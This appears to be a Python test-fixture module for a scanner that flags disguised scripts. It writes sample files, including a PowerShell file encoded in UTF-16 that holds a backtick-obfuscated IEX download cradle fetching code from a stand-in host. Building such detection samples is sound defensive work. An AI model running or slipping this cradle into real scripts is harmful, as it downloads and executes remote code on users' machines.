"""A picture, a readable script, one in UTF-16 with escape signs in its names, one cut short."""

from __future__ import annotations

from pathlib import Path

from onionskin.lookalike.icons import build_png

READABLE = """<# Invoke-Expression is only spoken of here #>
$text = 'it''s' # iex
Start-Sleep -Seconds 5
Start-Process notepad.exe
"""
ESCAPED = "\ufeffI`E`X (New-Object Net.WebClient).Download`String('https://feed.example/a')\n"


def _written(folder: Path, name: str, text: str) -> Path:
    path = folder / name
    path.write_text(text, "utf-8")
    return path


def good_a_picture_is_no_script(folder: Path) -> Path:
    path = folder / "logo.png"
    path.write_bytes(build_png(16))
    return path


def bad_readable(folder: Path) -> Path:
    return _written(folder, "start.ps1", READABLE)


def bad_escape_signs_in_utf_16(folder: Path) -> Path:
    path = folder / "start.ps1"
    path.write_bytes(ESCAPED.encode("utf-16-le"))
    return path


def damaged(folder: Path) -> Path:
    return _written(folder, "start.ps1", READABLE[: len(READABLE) // 2] + "\0'")
